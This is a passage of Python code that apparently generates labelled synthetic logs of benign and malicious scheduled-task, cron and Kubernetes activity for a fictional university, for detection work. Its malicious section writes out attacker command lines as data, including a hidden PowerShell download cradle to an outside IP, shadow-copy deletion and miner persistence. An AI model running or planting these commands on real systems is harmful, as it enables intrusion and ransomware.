               '/sc minute /mo 15 /ru SYSTEM /f')
        sc = "BigFix fixlet installs the LectureLoop capture agent; its setup registers a 15-minute SYSTEM health task"
        proc(t, h, SYSTEM, cmd, "C:\\Program Files (x86)\\BigFix Enterprise\\BES Client\\__BESData\\Fenmoor Lab\\__Download\\LectureLoopAgentSetup.exe",
             '"LectureLoopAgentSetup.exe" /quiet /norestart SERVER=fm-dc-cap01.%s' % DNS, "benign", "deploy", sc)
        task(later(t), h, "%s$" % h.upper(), "\\LectureLoop\\RecorderHealth", "C:\\Program Files\\LectureLoop\\llhealth.exe",
             "", "SYSTEM", "benign", "deploy", sc, trigger="minute", author="LectureLoop Inc.")
    # BigFix action (IT's fixlet) maps lab drives at logon with wscript; the task then runs at every logon
    lab_map = rng.sample(LAB, 8)
    for h in lab_map:
        t = at(0, rng.randrange(7, 8), rng.randrange(60))
        cmd = ('schtasks /create /tn "FM-Lab\\MapDrives" /tr "wscript.exe //B C:\\ProgramData\\Fenmoor\\Lab\\mapdrives.vbs" '
               '/sc onlogon /ru "BUILTIN\\Users" /f')
        sc = "BigFix action (lab image fixlet) registers the lab drive-mapping logon task"
        proc(t, h, SYSTEM, cmd, CMD, 'cmd.exe /c "C:\\Program Files (x86)\\BigFix Enterprise\\BES Client\\__BESData\\__Global\\Logs\\..\\..\\Fenmoor Lab\\maplogon.cmd"',
             "benign", "mgmt", sc)
        for d in rng.sample([d for d in days() if workday(d)], 3):
            run(at(d, rng.randrange(8, 17), rng.randrange(60)), h, "%s\\%s" % (DOMAIN, rng.choice(STUDENTS)),
                "C:\\Windows\\System32\\wscript.exe", "wscript.exe //B C:\\ProgramData\\Fenmoor\\Lab\\mapdrives.vbs",
                "benign", "auto", "Lab drive-mapping logon task runs wscript at a student logon", name="\\FM-Lab\\MapDrives")
    # StatSphere statistics package: nightly licence refresh with cscript on lab PCs
    for h in rng.sample(LAB, 8):
        for d in rng.sample(list(days()), 2):
            run(at(d, 3, rng.randrange(0, 20)), h, SYSTEM, "C:\\Windows\\System32\\cscript.exe",
                'cscript.exe //nologo "C:\\Program Files\\StatSphere\\lic\\refresh.vbs"', "benign", "auto",
                "StatSphere nightly licence refresh task runs cscript", name="\\StatSphere\\LicenseRefresh")
    # Admins from the jump hosts: SIS batch tasks on the SIS servers, run on demand, removed, re-created
    for i in range(8):
        adm = rng.choice(ADMINS)
        src = rng.choice(JUMP)
        tgt = rng.choice(["fm-dc-sis01", "fm-dc-sis02"])
        d = rng.choice([d for d in days() if workday(d)])
        t = at(d, rng.randrange(9, 17), rng.randrange(60))
        name = rng.choice(["SIS\\NightlyEnrolmentExport", "SIS\\GradebookSync", "SIS\\FinAidFeed"])
        exe = {"SIS\\NightlyEnrolmentExport": "D:\\SIS\\bin\\enrol_export.cmd", "SIS\\GradebookSync":
               "D:\\SIS\\bin\\gradebook_sync.exe", "SIS\\FinAidFeed": "D:\\SIS\\bin\\finaid_feed.exe"}[name]
        sc = "IT admin on a jump host manages the SIS batch task %s on %s remotely" % (name, tgt)
        user = "%s\\%s" % (DOMAIN, adm)
        pc = "C:\\Windows\\system32\\cmd.exe"
        create = 'schtasks /create /s %s /ru FENMOOR\\svc-sisbatch /rp * /tn "%s" /tr "%s" /sc daily /st 01:%02d /f' % (
            tgt, name, exe, rng.randrange(10, 50))
        proc(t, src, user, create, pc, pc, "benign", "admin", sc)
        task(later(t), tgt, adm, "\\" + name, exe, "", "svc-sisbatch", "benign", "admin", sc)
        if i % 2 == 0:
            proc(later(t, 60, 300), src, user, 'schtasks /run /s %s /tn "%s"' % (tgt, name), pc, pc, "benign", "admin", sc)
        if i % 3 == 0:
            proc(later(t, 400, 900), src, user, 'schtasks /delete /s %s /tn "%s" /f' % (tgt, name), pc, pc, "benign",
                 "admin", sc)
    # Patch weekend: admins create one-time SYSTEM reboot tasks on servers from the jump hosts
    for tgt in ["fm-dc-print01", "fm-dc-file01", "fm-dc-lic01", "fm-dc-rds01", "fm-dc-cap01", "fm-dc-sis02"]:
        adm = rng.choice(ADMINS)
        src = rng.choice(JUMP)
        t = at(5, rng.randrange(10, 13), rng.randrange(60))
        sc = "Patch weekend: admin schedules a one-time SYSTEM reboot on %s from a jump host" % tgt
        cmd = ('schtasks /create /s %s /ru SYSTEM /sc once /sd 01/15/2028 /st 22:00 /tn "Patch\\Reboot" '
               '/tr "shutdown.exe /r /t 120 /c \\"Fenmoor patch window\\"" /f' % tgt)
        proc(t, src, "%s\\%s" % (DOMAIN, adm), cmd, PS, '"%s"' % PS, "benign", "admin", sc)
        task(later(t), tgt, adm, "\\Patch\\Reboot", "shutdown.exe", '/r /t 120 /c "Fenmoor patch window"', "SYSTEM",
             "benign", "admin", sc, trigger="once")
    # DBA imports the index-maintenance task from XML and test-runs it on the SQL server
    for d in (1, 8):
        t = at(d, 14, rng.randrange(60))
        sc = "DBA imports the SQL index-maintenance task from XML on the SQL server and test-runs it"
        user = "%s\\adm.tvance" % DOMAIN
        proc(t, "fm-dc-sql01", user, 'schtasks /create /xml "\\\\fm-dc-file01\\it$\\tasks\\sql-index-maint.xml" '
             '/tn "SQL\\IndexMaintenance" /ru FENMOOR\\svc-sqlagent /rp *', CMD, '"C:\\Windows\\system32\\cmd.exe"',
             "benign", "admin", sc)
        task(later(t), "fm-dc-sql01", "adm.tvance", "\\SQL\\IndexMaintenance",
             "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
             "-S . -E -i D:\\Maint\\index_maint.sql", "svc-sqlagent", "benign", "admin", sc)
        proc(later(t, 60, 200), "fm-dc-sql01", user, 'schtasks /run /tn "SQL\\IndexMaintenance"', CMD,
             '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", sc)
    # DBA's own backup purge with forfiles, and its nightly runs
    t = at(2, 11, 5)
    sc = "DBA schedules a nightly forfiles purge of old SQL backups on the SQL server"
    proc(t, "fm-dc-sql01", "%s\\adm.tvance" % DOMAIN, 'schtasks /create /tn "SQL\\PurgeOldBackups" /tr "forfiles /p E:\\Backup '
         '/s /m *.bak /d -14 /c \\"cmd /c del @path\\"" /sc daily /st 02:15 /ru FENMOOR\\svc-sqlbackup /rp *', CMD,
         '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", sc)
    task(later(t), "fm-dc-sql01", "adm.tvance", "\\SQL\\PurgeOldBackups", "forfiles",
         '/p E:\\Backup /s /m *.bak /d -14 /c "cmd /c del @path"', "svc-sqlbackup", "benign", "admin", sc)
    for d in range(3, 14):
        run(at(d, 2, 15), "fm-dc-sql01", "%s\\svc-sqlbackup" % DOMAIN, "C:\\Windows\\System32\\forfiles.exe",
            'forfiles /p E:\\Backup /s /m *.bak /d -14 /c "cmd /c del @path"', "benign", "admin",
            "The DBA's nightly forfiles backup purge runs", name="\\SQL\\PurgeOldBackups")
    # Print server: the print vendor's updater re-registers its GUID-named task (a known pattern)
    for d in (0, 7):
        t = at(d, 4, rng.randrange(60))
        g = guid("printdesk", d).upper()
        sc = "PrintDesk print-management updater re-registers its GUID-named SYSTEM task on the print server"
        proc(t, "fm-dc-print01", SYSTEM, 'schtasks.exe /create /tn "{%s}" /tr "\\"C:\\Program Files\\PrintDesk\\pdupdate.exe\\" '
             '-check" /sc daily /st 04:30 /ru SYSTEM /f' % g, "C:\\Program Files\\PrintDesk\\pdupdate.exe",
             '"C:\\Program Files\\PrintDesk\\pdupdate.exe" -selfupdate', "benign", "updater", sc)
        task(later(t), "fm-dc-print01", "FM-DC-PRINT01$", "\\{%s}" % g, "C:\\Program Files\\PrintDesk\\pdupdate.exe",
             "-check", "SYSTEM", "benign", "updater", sc)
    # Lab teaching staff (admin rights on lab PCs) schedule a class-end logoff by hand
    for h in rng.sample(LAB, 3):
        t = at(rng.choice([1, 3, 8]), 10, rng.randrange(60))
        sc = "Lab technician schedules a one-time class-end logoff on a teaching PC"
        proc(t, h, "%s\\adm.lbriggs" % DOMAIN, 'schtasks /create /tn "ClassEndLogoff" /tr "shutdown /l /f" /sc once /st 12:50',
             CMD, '"C:\\Windows\\system32\\cmd.exe"', "benign", "admin", sc)
        task(later(t), h, "adm.lbriggs", "\\ClassEndLogoff", "shutdown", "/l /f", "adm.lbriggs", "benign", "admin", sc,
             trigger="once")


def benign_linux():
    awx = "/usr/bin/python3.11"
    for h in LINUX_SYSMON + LINUX_DEFEND:
        for d in rng.sample(list(days()), 2):
            t = at(d, 6, rng.randrange(60))
            f = rng.choice(["/etc/cron.d/fm-scratch-purge", "/etc/cron.d/fm-logship", "/etc/cron.d/fm-certcheck"])
            lxfile(t, h, "root", f, awx, "benign", "cm", "AWX (Ansible cron module) writes the managed cron file %s" % f)
        if h in LINUX_SYSMON or h in ("fm-lx-web01", "fm-lx-web02"):
            t = at(rng.randrange(14), 6, rng.randrange(60))
            svc = "chronyd" if h.startswith("fm-hpc") else "php8.2-fpm" if "moodle" in h else "nginx"
            lxproc(t, h, "root", "/usr/bin/systemctl restart %s" % svc, "/usr/bin/systemctl", awx,
                   "/usr/bin/python3.11 /root/.ansible/tmp/ansible-tmp-%s/AnsiballZ_systemd.py" % hid("ans", h, n=10),
                   "benign", "cm", "AWX restarts %s after a config change" % svc)
    # node_exporter rollout by AWX: unit file + enable
    for h in LINUX_SYSMON:
        t = at(2, 7, rng.randrange(60))
        lxfile(t, h, "root", "/etc/systemd/system/node_exporter.service", awx, "benign", "cm",
               "AWX rolls out node_exporter: systemd unit file")
        lxproc(later(t), h, "root", "/usr/bin/systemctl enable --now node_exporter", "/usr/bin/systemctl", awx,
               "/usr/bin/python3.11 AnsiballZ_systemd.py", "benign", "cm", "AWX rolls out node_exporter: enable and start")
    # package manager (dnf on the Rocky HPC nodes) updates cron and unit files
    for h in ("fm-hpc-login01", "fm-hpc-login02"):
        t = at(9, 4, rng.randrange(60))
        for f in ("/etc/cron.d/raid-check", "/etc/cron.daily/logrotate", "/usr/lib/systemd/system/slurmd.service"):
            lxfile(later(t), h, "root", f, "/usr/bin/rpm", "benign", "pkg", "dnf update rewrites packaged file %s" % f)
        lxproc(later(t, 40, 90), h, "root", "systemctl try-restart slurmd.service", "/usr/bin/systemctl", "/usr/bin/bash",
               "/bin/sh /var/tmp/rpm-tmp.%s 2" % hid("rpm", h, n=6), "benign", "pkg", "slurm RPM post-install restarts slurmd")
    # Ubuntu moodle: unattended-upgrades restarts php-fpm via the package's maintainer script
    for h in ("fm-lx-moodle01", "fm-lx-moodle02"):
        lxproc(at(4, 6, rng.randrange(60)), h, "root", "/usr/bin/systemctl reload php8.2-fpm.service", "/usr/bin/systemctl",
               "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/php8.2-fpm.postinst triggers", "benign", "pkg",
               "unattended-upgrades: php8.2-fpm trigger reloads the service")
    # researchers on the HPC login nodes keep their own crontabs and at jobs
    researchers = ["rmensah", "hlindqvist", "pacheampong", "ytakeda", "ebrandt", "cnovak", "dmurali", "fosei"]
    for h in ("fm-hpc-login01", "fm-hpc-login02"):
        for r in rng.sample(researchers, 5):
            d = rng.randrange(14)
            t = at(d, rng.randrange(9, 20), rng.randrange(60))
            sc = "researcher %s edits their crontab on the HPC login node (sync of results to project storage)" % r
            lxproc(t, h, r, "crontab -e", "/usr/bin/crontab", "/usr/bin/bash", "-bash", "benign", "auto", sc,
                   cwd="/home/%s" % r)
            lxfile(later(t, 30, 200), h, r, "/var/spool/cron/%s" % r, "/usr/bin/crontab", "benign", "auto", sc)
            if rng.random() < 0.6:
                lxproc(later(t, 200, 400), h, r, "crontab -l", "/usr/bin/crontab", "/usr/bin/bash", "-bash", "benign",
                       "auto", "researcher %s lists their crontab" % r, cwd="/home/%s" % r)
        for r in rng.sample(researchers, 3):
            t = at(rng.randrange(14), rng.randrange(9, 20), rng.randrange(60))
            lxproc(t, h, r, "at now + 2 hours -f /home/%s/bin/collect_results.sh" % r, "/usr/bin/at", "/usr/bin/bash",
                   "-bash", "benign", "auto", "researcher %s queues a one-off results collection with at" % r,
                   cwd="/home/%s" % r)
    # Linux admins: sudo vim on a cron file, restart slurm, timer for backup sync
    for i in range(6):
        a = rng.choice(LINUX_ADMINS)
        h = rng.choice(LINUX_SYSMON)
        t = at(rng.randrange(14), rng.randrange(9, 18), rng.randrange(60))
        lxproc(t, h, "root", "vim /etc/cron.d/fm-scratch-purge", "/usr/bin/vim", "/usr/bin/sudo",
               "sudo vim /etc/cron.d/fm-scratch-purge", "benign", "admin",
               "Linux admin %s adjusts the scratch purge cron file with sudo vim" % a)
    for i in range(4):
        a = rng.choice(LINUX_ADMINS)
        t = at(rng.randrange(14), rng.randrange(9, 18), rng.randrange(60))
        h = rng.choice(["fm-hpc-login01", "fm-hpc-login02"])
        lxproc(t, h, "root", "systemctl restart slurmd", "/usr/bin/systemctl", "/usr/bin/sudo", "sudo systemctl restart slurmd",
               "benign", "admin", "Linux admin %s restarts slurmd after a node drain" % a)
    for h in ("fm-lx-web01", "fm-lx-pgsql01"):
        t = at(3, 15, rng.randrange(60))
        sc = "Linux admin adds a systemd timer for the nightly backup sync"
        lxfile(t, h, "root", "/etc/systemd/system/fm-backup-sync.timer", "/usr/bin/cp", "benign", "admin", sc)
        lxfile(later(t), h, "root", "/etc/systemd/system/fm-backup-sync.service", "/usr/bin/cp", "benign", "admin", sc)
    # the web deploy user reinstalls its crontab from the repo in a cron job (deploy hook)
    for d in rng.sample(list(days()), 5):
        h = rng.choice(["fm-lx-web01", "fm-lx-web02"])
        lxproc(at(d, 5, 0, 2), h, "deploy", "crontab /srv/www/fenmoor-site/current/ops/crontab.txt", "/usr/bin/crontab",
               "/usr/sbin/cron", "/usr/sbin/CRON -f -P", "benign", "auto",
               "web deploy cron job reinstalls the site's crontab from the release")
        lxfile(at(d, 5, 0, 3), h, "deploy", "/var/spool/cron/crontabs/deploy", "/usr/bin/crontab", "benign", "auto",
               "web deploy cron job reinstalls the site's crontab from the release")
    # GitLab server: omnibus package and admin
    lxfile(at(6, 3, 12), "fm-lx-gitlab01", "root", "/etc/cron.d/gitlab-backup", "/usr/bin/python3.11", "benign", "cm",
           "AWX writes the GitLab backup cron file")


def benign_k8s():
    flux = "system:serviceaccount:flux-system:kustomize-controller"
    flux_ua = "kustomize-controller/v1.2.2 (linux/amd64) kubernetes/$Format"
    jobs = [("lms", "moodle-cron", "*/1 * * * *", "registry.fenmoor.example/lms/moodle:4.3.2",
             ["php", "/var/www/moodle/admin/cli/cron.php"]),
            ("lms", "moodle-course-backup", "30 2 * * *", "registry.fenmoor.example/lms/moodle:4.3.2",
             ["php", "/var/www/moodle/admin/cli/automated_backups.php"]),
            ("research-data", "nightly-sync", "15 1 * * *", "registry.fenmoor.example/rd/rclone:1.65",
             ["rclone", "sync", "/data/projects", "s3:fm-research-archive"]),
            ("platform", "cert-expiry-report", "0 7 * * 1", "registry.fenmoor.example/platform/certcheck:0.9",
             ["/app/certcheck", "--report"]),
            ("platform", "velero-gc", "0 */6 * * *", "registry.fenmoor.example/platform/kubectl:1.29",
             ["kubectl", "delete", "backups", "--selector=expired=true"])]
    for d in (0, 3, 7, 10):
        for ns, name, sch, img, cmd in rng.sample(jobs, 3):
            k8s(at(d, rng.randrange(8, 18), rng.randrange(60)), flux, "patch", ns, name, "benign", "gitops",
                "Flux reconciles the CronJob %s/%s from the platform git repo" % (ns, name), schedule=sch, image=img,
                command=cmd, sa=name, ua=flux_ua, src="172.24.9.%d" % (20 + d), code=200,
                groups=("system:serviceaccounts", "system:serviceaccounts:flux-system", "system:authenticated"))
    k8s(at(4, 13, 2), flux, "patch", "research-data", "hpc-usage-export", "benign", "gitops",
        "Flux creates a new CronJob from a merged platform change (server-side apply)", schedule="0 5 * * *",
        image="registry.fenmoor.example/rd/usage-export:1.0", command=["/app/export", "--since=24h"],
        sa="usage-export", ua=flux_ua, src="172.24.9.21", code=201,
        groups=("system:serviceaccounts", "system:serviceaccounts:flux-system", "system:authenticated"))
    for d in (2, 9):
        k8s(at(d, 15, rng.randrange(60)), "oidc:gitlab-ci@fenmoor.example", "create", "lms", "moodle-stats-%d" % d,
            "benign", "gitops", "GitLab CI deploys the Moodle stats chart with Helm (creates its CronJob)",
            schedule="45 3 * * *", image="registry.fenmoor.example/lms/moodle-stats:2.%d" % d,
            command=["/app/stats", "--push"], sa="moodle-stats", ua="Helm/3.14.2", src="172.24.5.31",
            groups=("oidc:platform-deployers", "system:authenticated"))
    for d in rng.sample(list(days()), 8):
        ns, name, sch, img, cmd = rng.choice(jobs)
        k8s(at(d, rng.randrange(0, 24), 0, 1), "system:serviceaccount:kube-system:cronjob-controller", "create", ns,
            "%s-%d" % (name, 28000000 + d * 1440), "benign", "auto", "the CronJob controller starts a scheduled Job",
            image=img, command=cmd, sa=name, ua="kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/"
            "system:serviceaccount:kube-system:cronjob-controller", src="172.24.8.11", resource="jobs",
            groups=("system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"))
    for d in (1, 11):
        k8s(at(d, 10, rng.randrange(60)), "oidc:kpetrov@fenmoor.example", "create", "research-data",
            "nightly-sync-manual-%d" % d, "benign", "admin", "platform admin starts the nightly sync by hand "
            "(kubectl create job --from=cronjob/nightly-sync)", image="registry.fenmoor.example/rd/rclone:1.65",
            command=["rclone", "sync", "/data/projects", "s3:fm-research-archive"], sa="nightly-sync",
            src="10.60.40.17", resource="jobs", groups=("oidc:platform-admins", "system:authenticated"))


def malicious():
    # Qakbot-style phishing: a .js from Downloads registers a OneDrive-looking task running a DLL in AppData
    for h in rng.sample(STAFF, 4):
        u = OWNER[h]
        d = rng.choice([1, 2, 8, 9])
        t = at(d, rng.randrange(9, 16), rng.randrange(60))
        dll = "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\OneDrive\\ondrvupd.dll" % u
        name = "OneDrive Standalone Update Task-%s" % sid_of(u)
        sc = "phishing .js (Qakbot-style) registers a OneDrive-looking task that runs a DLL from AppData with rundll32"
        proc(t, h, "%s\\%s" % (DOMAIN, u), 'schtasks.exe /Create /F /SC MINUTE /MO 30 /TN "%s" /TR "rundll32.exe %s,'
             'DllRegisterServer"' % (name, dll), "C:\\Windows\\System32\\wscript.exe",
             '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\%s\\Downloads\\Tuition_Refund_Jan2028.js"' % u,
             "malicious", "", sc, integrity="Medium")
        task(later(t), h, u, "\\" + name, "rundll32.exe", "%s,DllRegisterServer" % dll, u, "malicious", "", sc,
             trigger="minute", author=u)
        for k in range(3):
            run(t + dt.timedelta(minutes=30 * (k + 1), seconds=rng.randrange(5, 50)), h, "%s\\%s" % (DOMAIN, u),
                "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe %s,DllRegisterServer" % dll, "malicious", "",
                "the phishing task runs its AppData DLL with rundll32", name="\\" + name)
    # trojanised 'Quillnote Pro' from a download site: imitates the Quillnote updater task
    for h in rng.sample(STAFF, 2):
        u = OWNER[h]
        t = at(rng.choice([3, 10]), 20, rng.randrange(60))
        sc = "trojanised Quillnote Pro installer imitates the Quillnote updater task with a payload in Users\\Public"
        proc(t, h, "%s\\%s" % (DOMAIN, u), 'schtasks.exe /Create /F /TN "QuillnoteUpdate-%s" /TR "C:\\Users\\Public\\Libraries\\'
             'QuillnoteUpdater.exe" /SC ONLOGON /RL HIGHEST' % u,
             "C:\\Users\\%s\\Downloads\\QuillnotePro_2028_Setup_x64.exe" % u,
             '"C:\\Users\\%s\\Downloads\\QuillnotePro_2028_Setup_x64.exe"' % u, "malicious", "", sc)
        task(later(t), h, u, "\\QuillnoteUpdate-%s" % u, "C:\\Users\\Public\\Libraries\\QuillnoteUpdater.exe", "", u,
             "malicious", "", sc, trigger="logon", level="HighestAvailable", author=u)
    # stolen admin credentials used from a staff PC (not a jump host), then from a jump host
    src = "fm-st-ws0137"
    adm = "%s\\adm.lbriggs" % DOMAIN
    for j, tgt in enumerate(["fm-dc-file01", "fm-dc-sql01", "fm-dc-sis02"]):
        t = at(9, 0, 40 + j * 4)
        sc = "stolen admin account adm.lbriggs used from a staff PC: remote one-time SYSTEM task with a Windows\\Temp payload"
        name = "Microsoft\\Windows\\WindowsUpdate\\Scheduled Refresh"
        proc(t, src, adm, 'schtasks /create /s %s /ru SYSTEM /tn "%s" /tr "C:\\Windows\\Temp\\wuauhelper.exe" /sc once '
             '/st 00:00 /f' % (tgt, name), CMD, "cmd.exe", "malicious", "", sc)
        task(later(t), tgt, "adm.lbriggs", "\\" + name, "C:\\Windows\\Temp\\wuauhelper.exe", "", "SYSTEM", "malicious",
             "", sc, trigger="once")
        proc(later(t, 20, 60), src, adm, 'schtasks /run /s %s /tn "%s"' % (tgt, name), CMD, "cmd.exe", "malicious", "", sc)
        proc(later(t, 100, 200), src, adm, 'schtasks /delete /s %s /tn "%s" /f' % (tgt, name), CMD, "cmd.exe",
             "malicious", "", sc)
    for tgt in ("fm-dc-sql01", "fm-dc-sis01"):
        t = at(10, 2, rng.randrange(60))
        sc = "attacker on the jump host with adm.lbriggs plants a download-cradle task under the SQL backup account"
        tr = ("powershell.exe -nop -w hidden -ep bypass -c \\\"IEX (New-Object Net.WebClient).DownloadString("
              "'http://198.51.100.77/v.ps1')\\\"")
        proc(t, "fm-it-jump02", adm, 'schtasks /create /s %s /ru FENMOOR\\svc-sqlbackup /rp * /tn "SQL\\BackupVerify" '
             '/tr "%s" /sc daily /st 03:10 /f' % (tgt, tr), PS, '"%s"' % PS, "malicious", "", sc)
        task(later(t), tgt, "adm.lbriggs", "\\SQL\\BackupVerify", "powershell.exe",
             "-nop -w hidden -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/v.ps1')\"",
             "svc-sqlbackup", "malicious", "", sc)
    # ransomware staging over PsExec on servers: Windows-looking SYSTEM start-up task for a ProgramData DLL,
    # and a GUID-named one-time task that deletes shadow copies
    for h in ("fm-dc-file01", "fm-dc-sis02", "fm-dc-print01"):
        t = at(11, 1, rng.randrange(60))
        sc = "ransomware staging over PsExec: Windows-looking SYSTEM start-up task runs a ProgramData DLL"
        proc(t, h, SYSTEM, 'schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\WinSAT Refresh" /tr "rundll32.exe '
             'C:\\ProgramData\\Intel\\igfxcache.dll,Start" /sc onstart /ru SYSTEM /rl highest /f', CMD,
             "cmd /c C:\\Windows\\PSEXESVC\\st.bat", "malicious", "", sc)
        task(later(t), h, "%s$" % h.upper(), "\\Microsoft\\Windows\\Maintenance\\WinSAT Refresh", "rundll32.exe",
             "C:\\ProgramData\\Intel\\igfxcache.dll,Start", "SYSTEM", "malicious", "", sc, trigger="boot",
             level="HighestAvailable")
        run(later(t, 120, 300), h, SYSTEM, "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\ProgramData\\Intel\\igfxcache.dll,Start", "malicious", "",
            "the staged start-up task runs the ProgramData DLL", name="\\Microsoft\\Windows\\Maintenance\\WinSAT Refresh")
        g = guid("vss", h).upper()
        proc(later(t, 60, 120), h, SYSTEM, 'schtasks /create /tn "{%s}" /tr "cmd.exe /c vssadmin delete shadows /all '
             '/quiet" /sc once /st 00:00 /ru SYSTEM /f' % g, CMD, "cmd /c C:\\Windows\\PSEXESVC\\st.bat", "malicious", "",
             "ransomware staging: GUID-named one-time task deletes shadow copies")
        task(later(t, 130, 200), h, "%s$" % h.upper(), "\\{%s}" % g, "cmd.exe", "/c vssadmin delete shadows /all /quiet",
             "SYSTEM", "malicious", "", "ransomware staging: GUID-named one-time task deletes shadow copies", trigger="once")
    # unannounced assumed-breach test: Atomic Red Team T1053.005 command lines with their defaults
    rt = "%s\\pt-okeefe" % DOMAIN
    for h, d in (("fm-lab-pc214", 12), ("fm-st-ws0150", 13)):
        t = at(d, 14, rng.randrange(10))
        sc = "assumed-breach test: Atomic Red Team T1053.005"
        for c in ('schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"',
                  'schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"',
                  "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10",
                  'SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic task" '
                  '/TR "C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10',
                  'schtasks /delete /tn "T1053_005_OnLogon" /f',
                  "SCHTASKS /Delete /TN spawn /F"):
            t = later(t, 5, 40)
            proc(t, h, rt, c, CMD, '"cmd.exe" /c "%s"' % c.split(" /tr")[0], "malicious", "", sc)
        task(later(t), h, "pt-okeefe", "\\T1053_005_OnLogon", "cmd.exe", "/c calc.exe", "pt-okeefe", "malicious", "",
             sc, trigger="logon")
        task(later(t), h, "pt-okeefe", "\\AtomicTask", "calc.exe", "", "pt-okeefe", "malicious", "",
             "assumed-breach test: Atomic Red Team T1053.005 #4 Register-ScheduledTask AtomicTask", trigger="logon",
             level="HighestAvailable")
    # HPC login node: stolen researcher account, XMRig-style miner with cron and systemd persistence
    h = "fm-hpc-login02"
    u = "ytakeda"
    t = at(6, 2, 14)
    sc = "stolen researcher account on the HPC login node: miner persistence through the user crontab"
    lxproc(t, h, u, 'bash -c (crontab -l 2>/dev/null; echo "*/10 * * * * /home/%s/.cache/.kworker/upd >/dev/null 2>&1") '
           '| crontab -' % u, "/usr/bin/bash", "/usr/bin/bash", "-bash", "malicious", "", sc, cwd="/home/%s" % u)
    lxproc(later(t), h, u, "crontab -l", "/usr/bin/crontab", "/usr/bin/bash", "bash -c (crontab -l 2>/dev/null; ...",
           "malicious", "", sc, cwd="/home/%s" % u)
    lxfile(later(t), h, u, "/var/spool/cron/%s" % u, "/usr/bin/crontab", "malicious", "", sc)
    t = at(6, 3, 2)
    sc = "HPC intruder with root (local exploit): @reboot line in /etc/crontab and a kernel-thread-looking service"
    lxproc(t, h, "root", "bash -c echo \"@reboot root /usr/local/lib/.cache/kdevtmpfsi\" >> /etc/crontab", "/usr/bin/bash",
           "/home/%s/.cache/.kworker/upd" % u, "/home/%s/.cache/.kworker/upd" % u, "malicious", "", sc)
    lxfile(later(t), h, "root", "/etc/systemd/system/kdevtmpfsi.service", "/usr/bin/bash", "malicious", "", sc)
    lxproc(later(t), h, "root", "systemctl enable kdevtmpfsi", "/usr/bin/systemctl", "/usr/bin/bash", "bash", "malicious",
           "", sc)
    lxproc(later(t), h, "root", "systemctl start kdevtmpfsi", "/usr/bin/systemctl", "/usr/bin/bash", "bash", "malicious",
           "", sc)
    for d in (7, 8):
        lxfile(at(d, 2, 14), h, "root", "/etc/cron.d/0hourly-sync", "/usr/bin/bash", "malicious", "",
               "the HPC miner re-plants its cron file named like a package file")
    # assumed-breach test on Linux: Atomic Red Team T1053.003 / .002 / .006 on the other login node
    h = "fm-hpc-login01"
    t = at(12, 15, 2)
    atom = "assumed-breach test: Atomic Red Team %s"
    lxproc(t, h, "root", 'sh -c echo "* * * * * /tmp/evil.sh" > /tmp/persistevil && crontab /tmp/persistevil',
           "/usr/bin/sh", "/usr/bin/bash", "bash", "malicious", "", atom % "T1053.003 #1")
    lxproc(later(t), h, "root", "crontab /tmp/persistevil", "/usr/bin/crontab", "/usr/bin/sh", "sh -c ...", "malicious", "",
           atom % "T1053.003 #1")
    lxfile(later(t), h, "root", "/var/spool/cron/root", "/usr/bin/crontab", "malicious", "", atom % "T1053.003 #1")
    for sub in ("hourly", "daily", "monthly", "weekly"):
        lxproc(later(t), h, "root", "sh -c echo \"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\" > "
               "/etc/cron.%s/persistevil" % sub, "/usr/bin/sh", "/usr/bin/bash", "bash", "malicious", "", atom % "T1053.003 #2")
        lxfile(later(t), h, "root", "/etc/cron.%s/persistevil" % sub, "/usr/bin/sh", "malicious", "", atom % "T1053.003 #2")
    lxproc(later(t), h, "root", "sh -c echo \"echo Hello from Atomic Red Team\" | at now + 1 minute", "/usr/bin/sh",
           "/usr/bin/bash", "bash", "malicious", "", atom % "T1053.002 #2")
    lxproc(later(t), h, "root", "at now + 1 minute", "/usr/bin/at", "/usr/bin/sh", "sh -c ...", "malicious", "",
           atom % "T1053.002 #2")
    for f in ("/etc/systemd/system/art-timer.service", "/etc/systemd/system/art-timer.timer"):
        lxfile(later(t), h, "root", f, "/usr/bin/sh", "malicious", "", atom % "T1053.006 #1")
    for c in ("systemctl start art-timer.timer", "systemctl enable art-timer.timer", "systemctl daemon-reload"):
        lxproc(later(t), h, "root", c, "/usr/bin/systemctl", "/usr/bin/sh", "sh -c ...", "malicious", "", atom % "T1053.006 #1")
    # public web server: vulnerable plugin → www-data self-healing crontab and a timer dropped after escalation
    h = "fm-lx-web02"
    for d in (4, 5, 6):
        lxproc(at(d, 3, 0, 1), h, "www-data", "crontab /tmp/.ICE-unix/.x/cr", "/usr/bin/crontab", "/usr/sbin/cron",
               "/usr/sbin/CRON -f -P", "malicious", "", "web-shell persistence: a www-data cron job reinstalls its crontab")
        lxfile(at(d, 3, 0, 2), h, "www-data", "/var/spool/cron/crontabs/www-data", "/usr/bin/crontab", "malicious", "",
               "web-shell persistence: a www-data cron job reinstalls its crontab")
    lxfile(at(5, 4, 12), h, "root", "/etc/systemd/system/php-fpm-cache.timer", "/usr/bin/cp", "malicious", "",
           "web intruder after privilege escalation drops a php-fpm-looking systemd timer")
    # Kubernetes: leaked Jupyter service-account token used from outside to plant a miner CronJob
    sa = "system:serviceaccount:research-data:jupyter-spawner"
    k8s(at(8, 23, 41), sa, "create", "kube-system", "kube-proxy-sync", "malicious", "",
        "leaked Jupyter token: CronJob creation in kube-system denied", schedule="*/5 * * * *",
